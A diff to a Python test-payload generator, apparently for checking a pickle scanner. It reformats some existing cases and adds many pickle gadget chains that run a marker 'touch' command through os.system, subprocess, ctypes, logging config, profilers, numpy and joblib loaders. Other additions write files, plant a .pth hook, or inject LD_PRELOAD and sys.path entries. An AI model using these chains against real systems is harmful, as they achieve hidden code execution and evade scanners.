@@ -165,7 +165,11 @@ def pandas_io_pickle_read_pickle(m: str, d: Path) -> bytes:
 def pickle_unpickler_load(m: str, d: Path) -> bytes:
     """``pickle.Unpickler(BytesIO(evil)).load()`` (a class, then a bound method, not ``pickle.loads``)."""
     unp = call(glob("pickle", "Unpickler"), call(glob("io", "BytesIO"), const(_evil(m))))
-    return p2(call(_attr(unp, "load"), ))
+    return p2(
+        call(
+            _attr(unp, "load"),
+        )
+    )
 
 
 def shelve_open(m: str, d: Path) -> bytes:
@@ -232,7 +236,11 @@ def zipimporter_load_module(m: str, d: Path) -> bytes:
 
 def source_file_loader(m: str, d: Path) -> bytes:
     loader = ccall(glob("importlib.machinery", "SourceFileLoader"), "rt_payload_mod", str(prepare_module(m, d)))
-    return p2(call(_attr(loader, "load_module"), ))
+    return p2(
+        call(
+            _attr(loader, "load_module"),
+        )
+    )
 
 
 def runpy_run_path(m: str, d: Path) -> bytes:
@@ -323,7 +331,12 @@ def obf_str_join_unbound(m: str, d: Path) -> bytes:
 
 def obf_bytes_decode(m: str, d: Path) -> bytes:
     name = call(glob("builtins", "getattr"), const(b"system"), sbu("decode"))
-    return _getattr_os(call(name, ), m)
+    return _getattr_os(
+        call(
+            name,
+        ),
+        m,
+    )
 
 
 def obf_codecs_rot13(m: str, d: Path) -> bytes:
@@ -398,7 +411,16 @@ def inst_args_from_memo(m: str, d: Path) -> bytes:
 
 def inst_callable_module_dotted(m: str, d: Path) -> bytes:
     """INST naming ``subprocess\\ncheck_call`` with a list argument (protocol 0 text only)."""
-    return pickle.MARK + pickle.MARK + string0("touch") + string0(m) + pickle.LIST + pickle.INST + b"subprocess\ncheck_call\n" + pickle.STOP
+    return (
+        pickle.MARK
+        + pickle.MARK
+        + string0("touch")
+        + string0(m)
+        + pickle.LIST
+        + pickle.INST
+        + b"subprocess\ncheck_call\n"
+        + pickle.STOP
+    )
 
 
 def inst_class_from_obj(m: str, d: Path) -> bytes:
@@ -444,7 +466,9 @@ def hash_hook_monkeypatch(m: str, d: Path) -> bytes:
     ``Terminal('touch MARKER')`` as a dict key makes the interpreter call it. No REDUCE ever calls the gadget.
     """
     cls = glob("email._header_value_parser", "Terminal")
-    patch = cls + tup(pickle.NONE, pickle.EMPTY_DICT + sbu("__hash__") + glob("subprocess", "getoutput") + pickle.SETITEM)
+    patch = cls + tup(
+        pickle.NONE, pickle.EMPTY_DICT + sbu("__hash__") + glob("subprocess", "getoutput") + pickle.SETITEM
+    )
     patch += pickle.BUILD + pickle.POP
     key = ccall(glob("email._header_value_parser", "Terminal"), shell(m), "x")
     return p2(patch + pickle.EMPTY_DICT + key + const(1) + pickle.SETITEM)
@@ -580,3 +604,179 @@ class Case:
 
 
 __all__ = ["Case", "bu"]
+
+
+# -- second wave: string resolvers, call-forwarding methods, odd consumers, write primitives -------------------
+
+
+def _call_method(obj: bytes, name: str, *args: bytes) -> bytes:
+    return call(_attr(obj, name), *args)
+
+
+def partial_build_setstate(m: str, d: Path) -> bytes:
+    """``partial(print)`` rebuilt by BUILD into ``partial(os.system, cmd)`` (os.system only in the state), then called."""
+    obj = glob("functools", "partial") + tup(glob("builtins", "print")) + pickle.NEWOBJ
+    state = tup(glob("os", "system"), tup(sbu(shell(m))), pickle.EMPTY_DICT, pickle.NONE)
+    return p2(obj + state + pickle.BUILD + pickle.EMPTY_TUPLE + pickle.REDUCE)
+
+
+def staticmethod_callable(m: str, d: Path) -> bytes:
+    """``staticmethod(os.system)(cmd)``: staticmethod objects are callable since 3.10."""
+    return p2(call(call(glob("builtins", "staticmethod"), glob("os", "system")), sbu(shell(m))))
+
+
+def functools_cache_wrapper(m: str, d: Path) -> bytes:
+    return p2(call(call(glob("functools", "cache"), glob("os", "system")), sbu(shell(m))))
+
+
+def type_created_class_del(m: str, d: Path) -> bytes:
+    """``type('X', (str,), {'__del__': subprocess.getoutput})('touch …')``: runs when the string is freed."""
+    ns = pickle.EMPTY_DICT + sbu("__del__") + glob("subprocess", "getoutput") + pickle.SETITEM
+    cls = call(glob("builtins", "type"), sbu("X"), tup(glob("builtins", "str")), ns)
+    return p2(call(cls, sbu(shell(m))))
+
+
+def logging_dictconfig_factory(m: str, d: Path) -> bytes:
+    """``logging.config.dictConfig`` with a handler factory ``'()': 'os.system'`` and ``command=cmd``: only strings."""
+    config = {"version": 1, "handlers": {"h": {"()": "os.system", "command": shell(m)}}}
+    return p2(ccall(glob("logging.config", "dictConfig"), config))
+
+
+def pydoc_locate(m: str, d: Path) -> bytes:
+    return p2(call(ccall(glob("pydoc", "locate"), "os.system"), sbu(shell(m))))
+
+
+def logging_config_resolve(m: str, d: Path) -> bytes:
+    return p2(call(ccall(glob("logging.config", "_resolve"), "os.system"), sbu(shell(m))))
+
+
+def torch_import_dotted_name(m: str, d: Path) -> bytes:
+    return p2(call(ccall(glob("torch._utils", "_import_dotted_name"), "os.system"), sbu(shell(m))))
+
+
+def ctypes_pyrun_simplestring(m: str, d: Path) -> bytes:
+    """``ctypes.pythonapi.PyRun_SimpleString(b'code')`` by a dotted STACK_GLOBAL: C API exec."""
+    return p4(call(sglob("ctypes", "pythonapi.PyRun_SimpleString"), const(code(m).encode())))
+
+
+def cprofile_runcall(m: str, d: Path) -> bytes:
+    return p2(_call_method(call(glob("cProfile", "Profile")), "runcall", glob("os", "system"), sbu(shell(m))))
+
+
+def trace_runfunc(m: str, d: Path) -> bytes:
+    tracer = call(glob("trace", "Trace"), const(0), const(0))
+    return p2(_call_method(tracer, "runfunc", glob("os", "system"), sbu(shell(m))))
+
+
+def bdb_runcall(m: str, d: Path) -> bytes:
+    return p2(_call_method(call(glob("bdb", "Bdb")), "runcall", glob("os", "system"), sbu(shell(m))))
+
+
+def threadpool_submit(m: str, d: Path) -> bytes:
+    pool = call(glob("concurrent.futures", "ThreadPoolExecutor"))
+    fut = _call_method(pool, "submit", glob("os", "system"), sbu(shell(m)))
+    return p2(_call_method(fut, "result"))
+
+
+def sched_enter_run(m: str, d: Path) -> bytes:
+    sch = call(glob("sched", "scheduler")) + put(0)
+    enter = _call_method(sch, "enter", const(0), const(0), glob("os", "system"), tup(sbu(shell(m)))) + pickle.POP
+    return p2(enter + _call_method(get(0), "run"))
+
+
+def bytes_consumes_map(m: str, d: Path) -> bytes:
+    lazy = call(glob("builtins", "map"), glob("os", "system"), const([shell(m)]))
+    return p2(call(glob("builtins", "bytes"), lazy))
+
+
+def heapq_nsmallest_key(m: str, d: Path) -> bytes:
+    """``heapq.nsmallest(1, [cmd], os.system)``: the key function is positional."""
+    return p2(call(glob("heapq", "nsmallest"), const(1), const([shell(m)]), glob("os", "system")))
+
+
+def groupby_key_list(m: str, d: Path) -> bytes:
+    lazy = call(glob("itertools", "groupby"), const([shell(m)]), glob("os", "system"))
+    return p2(call(glob("builtins", "list"), lazy))
+
+
+def vars_itemgetter(m: str, d: Path) -> bytes:
+    """``itemgetter('system')(vars(import_module('os')))``."""
+    namespace = call(glob("builtins", "vars"), ccall(glob("importlib", "import_module"), "os"))
+    fn = call(ccall(glob("operator", "itemgetter"), "system"), namespace)
+    return p2(call(fn, sbu(shell(m))))
+
+
+def npyio_impl_load(m: str, d: Path) -> bytes:
+    """numpy 2's real module path of ``np.load``: ``numpy.lib._npyio_impl.load``."""
+    buf = call(glob("io", "BytesIO"), const(_npy_object_array(m)))
+    return p2(call(glob("numpy.lib._npyio_impl", "load"), buf, const(None), const(True)))
+
+
+def joblib_load_bytesio(m: str, d: Path) -> bytes:
+    buf = call(glob("io", "BytesIO"), const(_evil(m)))
+    return p2(call(glob("joblib", "load"), buf))
+
+
+def underscore_pickle_unpickler(m: str, d: Path) -> bytes:
+    unp = call(glob("_pickle", "Unpickler"), call(glob("io", "BytesIO"), const(_evil(m))))
+    return p2(_call_method(unp, "load"))
+
+
+def pickle_pure_loads(m: str, d: Path) -> bytes:
+    return p2(call(glob("pickle", "_loads"), const(_evil(m))))
+
+
+def os_symlink(m: str, d: Path) -> bytes:
+    return p2(ccall(glob("os", "symlink"), "/etc/hostname", m))
+
+
+def os_replace(m: str, d: Path) -> bytes:
+    src = d / "rt_src.txt"
+    src.write_text("x")
+    return p2(ccall(glob("os", "replace"), str(src), m))
+
+
+def zipfile_extractall(m: str, d: Path) -> bytes:
+    zpath = d / "rt_extract.zip"
+    with zipfile.ZipFile(zpath, "w") as zf:
+        zf.writestr(Path(m).name, "x")
+    zf_obj = ccall(glob("zipfile", "ZipFile"), str(zpath))
+    return p2(_call_method(zf_obj, "extractall", sbu(str(Path(m).parent))))
+
+
+def shutil_unpack_archive(m: str, d: Path) -> bytes:
+    zpath = d / "rt_unpack.zip"
+    with zipfile.ZipFile(zpath, "w") as zf:
+        zf.writestr(Path(m).name, "x")
+    return p2(ccall(glob("shutil", "unpack_archive"), str(zpath), str(Path(m).parent)))
+
+
+def sqlite3_connect(m: str, d: Path) -> bytes:
+    """``sqlite3.connect(marker).execute('create table t(x)')`` creates the database file."""
+    conn = ccall(glob("sqlite3", "connect"), m)
+    return p2(_call_method(conn, "execute", sbu("create table t(x)")))
+
+
+def logging_filehandler(m: str, d: Path) -> bytes:
+    """``logging.FileHandler(marker)`` opens (creates) the file in its constructor."""
+    return p2(ccall(glob("logging", "FileHandler"), m))
+
+
+def site_addsitedir(m: str, d: Path) -> bytes:
+    """``site.addsitedir(dir)`` executes the ``import`` lines of every ``.pth`` file in ``dir``."""
+    sdir = d / "rt_site"
+    sdir.mkdir(exist_ok=True)
+    (sdir / "rt.pth").write_text(f"import os; os.system({shell(m)!r})\n")
+    return p2(ccall(glob("site", "addsitedir"), str(sdir)))
+
+
+def environ_setitem(m: str, d: Path) -> bytes:
+    """SETITEM straight into ``os.environ`` (no call): LD_PRELOAD for every later child process."""
+    patch = glob("os", "environ") + sbu("LD_PRELOAD") + sbu(str(d / "evil.so")) + pickle.SETITEM + pickle.POP
+    return p2(patch + const({"ok": 1}))
+
+
+def sys_path_append(m: str, d: Path) -> bytes:
+    """APPEND straight onto ``sys.path`` (no call): later imports may come from an attacker folder."""
+    patch = glob("sys", "path") + sbu(str(d)) + pickle.APPEND + pickle.POP
+    return p2(patch + const({"ok": 1}))
